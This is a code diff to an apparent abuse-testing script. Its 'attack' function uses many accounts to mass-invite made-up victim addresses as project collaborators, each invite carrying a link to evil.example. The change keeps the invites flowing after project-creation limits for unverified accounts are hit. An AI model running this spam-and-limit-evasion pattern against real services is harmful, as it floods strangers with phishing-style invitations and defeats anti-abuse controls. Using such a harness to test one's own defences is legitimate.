@@ -20,7 +20,10 @@ _DOMAIN = "victims.example"
 
 
 async def attack(target: Target, tally: Tally) -> None:
-    """Invite one stranger after the other, from a new project when one has had its share."""
+    """Invite one stranger after the other, from a new project when one has had its share.
+
+    From the last one, once there are as many as an account gets that is not verified.
+    """
     async with asyncio.TaskGroup() as group:
         for number in range(_ACCOUNTS):
             group.create_task(_invite(target, tally, number))
@@ -35,18 +38,19 @@ async def _invite(target: Target, tally: Tally, number: int) -> None:
         token = (await http.post("/login", json=login)).json()["token"]
         http.headers["Authorization"] = f"Bearer {token}"
         site = {"address": "1 Here", "site_owner_email": f"nobody@{_DOMAIN}"}
-        victim = 0
+        victim, project = 0, ""
         while True:
             made = await http.post("/projects", json={**site, "name": f"Win {victim}"})
-            if not made.is_success:
+            if made.is_success:
+                project = made.json()["id"]
+            else:
                 tally.lost()
                 await asyncio.sleep(0.2)
-                continue
             for _ in range(_OF_A_PROJECT):
                 victim += 1
                 email = f"victim-{number}-{victim}@{_DOMAIN}"
                 answer = await http.post(
-                    f"/projects/{made.json()['id']}/collaborators",
+                    f"/projects/{project}/collaborators",
                     json={"email": email, "role": "technician", "message": "http://evil.example"},
                 )
                 if answer.is_success:
